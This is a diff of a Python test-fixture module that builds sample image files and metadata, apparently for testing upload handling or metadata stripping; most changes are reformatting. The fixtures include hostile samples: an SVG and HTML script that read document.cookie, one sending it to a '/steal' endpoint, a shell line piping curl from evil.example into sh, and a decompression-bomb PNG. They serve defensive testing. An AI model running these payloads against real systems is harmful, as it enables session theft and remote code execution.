@@ -112,12 +112,19 @@ XMP = (
     b'</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
 )
 
+
 # An APP13 Photoshop/IPTC block with a caption and a city.
 def _iptc() -> bytes:
     records = b""
     for dataset, text in ((120, b"Our new flat, door code 4821"), (90, b"Paris")):
         records += b"\x1c\x02" + bytes((dataset,)) + struct.pack(">H", len(text)) + text
-    resource = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00" + struct.pack(">I", len(records)) + records
+    resource = (
+        b"8BIM"
+        + struct.pack(">H", 0x0404)
+        + b"\x00\x00"
+        + struct.pack(">I", len(records))
+        + records
+    )
     if len(records) & 1:
         resource += b"\x00"
     return b"Photoshop 3.0\x00" + resource
@@ -158,7 +165,9 @@ def _encode(image: Image.Image, fmt: str, **options) -> bytes:
     return out.getvalue()
 
 
-def metadata(*, exif: bytes | None = None, icc: bytes | None = None, xmp: bytes | None = None) -> dict:
+def metadata(
+    *, exif: bytes | None = None, icc: bytes | None = None, xmp: bytes | None = None
+) -> dict:
     """Pillow save options that write the given EXIF, ICC profile and XMP."""
     options = {}
     if exif is not None:
@@ -227,8 +236,13 @@ def frames(count=3, size=(32, 24)) -> list[Image.Image]:
 def animated_gif(durations=(100, 250, 400), *, comment=b"made for you", xmp=True) -> bytes:
     pictures = [f.convert("P", palette=Image.ADAPTIVE) for f in frames(len(durations))]
     data = _encode(
-        pictures[0], "GIF", save_all=True, append_images=pictures[1:], duration=list(durations),
-        loop=0, comment=comment,
+        pictures[0],
+        "GIF",
+        save_all=True,
+        append_images=pictures[1:],
+        duration=list(durations),
+        loop=0,
+        comment=comment,
     )
     if xmp:  # an XMP application extension, as Photoshop writes, just before the trailer
         body = XMP + bytes(range(0xFF, -1, -1)) + b"\x00"  # the "magic trailer" XMP ends with
@@ -242,7 +256,12 @@ def still_gif(size=(20, 10)) -> bytes:
 
 def animated_webp(durations=(100, 250, 400), *, exif=None, icc=None, xmp=XMP) -> bytes:
     pictures = frames(len(durations))
-    options = {"save_all": True, "append_images": pictures[1:], "duration": list(durations), "loop": 0}
+    options = {
+        "save_all": True,
+        "append_images": pictures[1:],
+        "duration": list(durations),
+        "loop": 0,
+    }
     options.update(metadata(exif=exif, icc=icc, xmp=xmp))
     return _encode(pictures[0], "WEBP", **options)
 
@@ -296,7 +315,10 @@ def png_declaring(width: int, height: int) -> bytes:
     # The first rows of zeros, compressed: the real bomb would inflate to width*height*3.
     idat = zlib.compress(b"\x00" * (width * 3 + 1) * 4, 9)
     return (
-        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", idat)
+        + _png_chunk(b"IEND", b"")
     )
 
 
@@ -305,7 +327,9 @@ SVG = (
     b'<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>'
 )
 PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
-HTML = b"<!doctype html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>"
+HTML = (
+    b"<!doctype html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>"
+)
 SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
 
 
